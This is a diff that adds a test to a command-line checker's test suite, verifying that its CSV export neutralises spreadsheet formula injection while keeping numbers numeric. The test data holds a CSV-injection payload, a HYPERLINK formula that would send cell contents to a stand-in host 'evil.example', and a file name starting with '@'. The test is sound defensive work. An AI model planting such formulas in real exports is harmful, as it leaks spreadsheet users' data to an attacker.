@@ -149,6 +149,25 @@ test('--csv: one row per finding, RFC 4180, UTF-8 with BOM, the same findings as
   assert.match(en.find((row) => row[0] === path.quoted)[8], /in force/);
 });
 
+test('--csv: an issuer or file name shaped like a formula is text in a spreadsheet; numbers stay numbers', () => {
+  const dir = join(root, 'formula');
+  const issuer = '=HYPERLINK("http://evil.example/?"&A1,"点此")';
+  write(join(dir, '@SUM(1+1).json'), report((r) => { r.requests.disclosed.natural_person = -1; }, { issuer }));
+  const csv = join(root, 'formula.csv');
+  // Checked from inside the folder, the file name is relative and starts with @.
+  const r = spawnSync(process.execPath, [BIN, 'check', '.', '--csv', csv], { cwd: dir, encoding: 'utf8' });
+  assert.equal(r.status, 1, r.stderr);
+  const [, ...rows] = parseCsv(readFileSync(csv, 'utf8').slice(1));
+  assert.ok(rows.length > 0);
+  for (const row of rows) assert.deepEqual(row.slice(0, 2), ["'@SUM(1+1).json", `'${issuer}`]);
+  // The mistyped -1 is reported as a plain number, not as text.
+  assert.ok(rows.some((row) => row[7] === '-1'), JSON.stringify(rows.map((row) => row.slice(3, 8))));
+  // Every field that starts with a formula character is a defused text or a plain number.
+  for (const value of rows.flat()) {
+    if (/^[=+\-@\t\r]/.test(value)) assert.match(value, /^[-+]?\d+(\.\d+)?$/, value);
+  }
+});
+
 test('--csv to a place that cannot be written: exit 2 with the reason', () => {
   const r = run('check', path.inside, '--csv', join(root, 'no', 'such', 'dir.csv'));
   assert.equal(r.code, 2);
